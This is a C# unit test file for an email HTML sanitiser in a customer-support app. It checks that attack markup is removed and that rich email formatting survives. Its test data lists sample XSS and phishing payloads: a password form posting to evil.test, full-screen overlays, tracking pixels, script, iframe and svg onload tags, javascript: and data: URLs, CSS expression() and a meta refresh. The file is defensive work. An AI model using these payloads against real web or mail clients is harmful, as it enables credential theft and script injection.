using Kefu.Platform.Text;

namespace Kefu.Tests.Platform;

/// <summary>The sanitiser's allow-list (decision 0055): what a customer's HTML must not carry into the agent's thread,
/// and the rich email formatting it must keep.</summary>
public sealed class HtmlCleanerTests
{
    private static readonly HtmlCleaner Cleaner = new();

    public static TheoryData<string, string[]> Attacks => new()
    {
        // A "session expired" form posting the password off-site.
        { "<form action=\"https://evil.test/steal\" method=\"post\"><input name=\"pw\" type=\"password\"><button>登录</button></form>",
            ["<form", "action", "<input", "<button", "evil.test"] },
        { "<textarea>x</textarea><select><option>a</option></select><label for=x>l</label><fieldset><legend>g</legend></fieldset>",
            ["<textarea", "<select", "<option", "<label", "<fieldset", "<legend"] },
        // A full-screen overlay over the workspace, by CSS or by borrowing the app's own classes.
        { "<div style=\"position:fixed;z-index:9999;top:0;left:0;right:0;bottom:0;background:#fff\">请重新登录</div>",
            ["position", "z-index", "top", "left", "right", "bottom"] },
        { "<div style=\"inset:0;transform:translate(0,-500px);pointer-events:none;cursor:pointer\">x</div>",
            ["inset", "transform", "pointer-events", "cursor"] },
        { "<div class=\"mud-overlay mud-overlay-dialog\" id=\"reply-box\" name=\"x\">x</div>", ["mud-overlay", "reply-box", "name="] },
        { "<div tabindex=\"1\" contenteditable=\"true\" accesskey=\"s\" draggable=\"true\">x</div>",
            ["tabindex", "contenteditable", "accesskey", "draggable"] },
        // Remote content: tracking pixels and backgrounds, and protocol-relative or odd sources.
        { "<img src=\"https://track.test/p.gif?u=1\" width=1 height=1>", ["<img", "track.test"] },
        { "<img src=\"//track.test/p.gif\"><img src=\"http://track.test/a.png\" srcset=\"https://track.test/b.png 2x\">", ["<img", "track.test"] },
        { "<table background=\"https://track.test/bg.png\"><tr><td style=\"background-image:url(https://track.test/c.png)\">x</td></tr></table>",
            ["track.test", "url("] },
        { "<div style=\"background:url('https://track.test/d.png') #fff\">x</div>", ["track.test", "url("] },
        // Script, styles and frames.
        { "<style>body{display:none}</style><link rel=stylesheet href=\"https://evil.test/x.css\"><script>alert(1)</script>",
            ["<style", "<link", "<script", "display:none"] },
        { "<iframe src=\"https://evil.test\"></iframe><object data=x></object><embed src=x><svg onload=alert(1)></svg>",
            ["<iframe", "<object", "<embed", "<svg", "onload"] },
        { "<a href=\"javascript:alert(1)\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">y</a><img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            ["javascript", "data:text", "svg+xml"] },
        { "<div style=\"width:expression(alert(1))\" onclick=\"alert(1)\">x</div>", ["expression", "onclick"] },
        { "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\"><base href=\"https://evil.test/\">", ["<meta", "<base", "evil.test"] },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_markup_is_removed(string html, string[] absent)
    {
        var clean = Cleaner.Sanitize("<p>正文</p>" + html);
        Assert.Contains("正文", clean);
        foreach (var a in absent) Assert.DoesNotContain(a, clean, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Rich_email_formatting_is_kept()
    {
        const string png = "data:image/png;base64,iVBORw0KGgo=";
        var clean = Cleaner.Sanitize(
            "<h2 style=\"color:#c00;font-size:18px\">订单 <u>88213047</u></h2>" +
            "<table border=\"1\" cellpadding=\"4\" style=\"border-collapse:collapse;width:100%\"><thead><tr><th colspan=\"2\">商品</th></tr></thead>" +
            "<tbody><tr><td style=\"background-color:#eee;padding:4px;text-align:right\">耳机</td><td><s>¥299</s> <b>¥199</b></td></tr></tbody></table>" +
            "<ol start=\"3\"><li><i>一</i></li></ol><ul><li><a href=\"https://shop.test/o/1\" target=\"_self\">查看订单</a></li></ul>" +
            "<blockquote><p><font color=\"#888\" face=\"宋体\">旧邮件</font></p></blockquote>" +
            $"<img src=\"cid:logo@x\" alt=\"logo\"><img src=\"/api/v1/attachments/7\"><img src=\"{png}\">" +
            "<img src=\"https://track.test/banner.png\" alt=\"促销横幅\"><a href=\"mailto:a@b.test\">邮件</a>");
        foreach (var kept in new[]
                 {
                     "<h2 style=\"color: rgba(204, 0, 0, 1); font-size: 18px\">", "<u>88213047</u>", "border=\"1\"", "cellpadding=\"4\"",
                     "border-collapse: collapse", "<th colspan=\"2\">", "background-color: rgba(238, 238, 238, 1)", "text-align: right",
                     "<s>¥299</s>", "<b>¥199</b>", "<ol start=\"3\">", "<i>一</i>", "<blockquote>", "<font color=\"#888\" face=\"宋体\">",
                     "src=\"cid:logo@x\"", "src=\"/api/v1/attachments/7\"", $"src=\"{png}\"", "href=\"mailto:a@b.test\"",
                     "[促销横幅]", // a remote image shows its alt text, not the image
                 })
            Assert.Contains(kept, clean);
        Assert.DoesNotContain("track.test", clean);
        Assert.Contains("<a href=\"https://shop.test/o/1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">查看订单</a>", clean);
        Assert.Equal(clean, Cleaner.Sanitize(new string(clean.AsSpan()))); // stable when sanitised again
    }
}
